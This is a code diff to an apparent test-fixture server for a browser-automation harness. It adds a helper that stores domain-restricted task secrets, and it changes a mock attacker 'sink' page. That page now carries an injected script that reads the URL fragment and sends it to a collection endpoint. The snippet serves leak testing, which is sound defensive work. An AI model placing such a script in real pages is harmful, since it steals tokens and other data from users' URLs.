@@ -122,7 +122,9 @@ export async function startFixtures(bundle: string): Promise<Server> {
       req.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
       req.on("end", () => {
         sinkRequests.push({ host: req.headers.host ?? "", url: req.url ?? "", body });
-        send(200, TYPES[".html"]!, "<!doctype html><title>Thanks</title><h1>Thanks</h1>");
+        // As an attacker's page would, it sends on what its address's fragment carried.
+        const echo = "<script>if (location.hash) fetch('/sink/hash?h=' + encodeURIComponent(location.hash.slice(1)))</script>";
+        send(200, TYPES[".html"]!, `<!doctype html><title>Thanks</title><h1>Thanks</h1>${echo}`);
       });
       return;
     }
@@ -265,6 +267,16 @@ export async function downloadArtifact(h: Harness, artifactId: string): Promise<
   assert.equal(res.status, 200, `artifact ${artifactId}: ${res.status}`);
   const { downloadUrl } = (await res.json()) as DownloadResponse;
   return fetch(downloadUrl);
+}
+
+/** Gives the task `taskId` the secret `name` (typed only on `domains`); the harness needs `MIMO_SECRETS_KEY`. */
+export async function putSecret(h: Harness, taskId: string, name: string, value: string, domains: string[]): Promise<void> {
+  const res = await fetch(`${h.mimo.url}/api/task/${taskId}/secrets/${name}`, {
+    method: "PUT",
+    headers: { authorization: `Bearer ${h.mimo.token}`, "content-type": "application/json" },
+    body: JSON.stringify({ value, domains }),
+  });
+  assert.equal(res.status, 201, await res.text());
 }
 
 /** The action's result, asserting it succeeded (`ok`, or `partial` when allowed). */
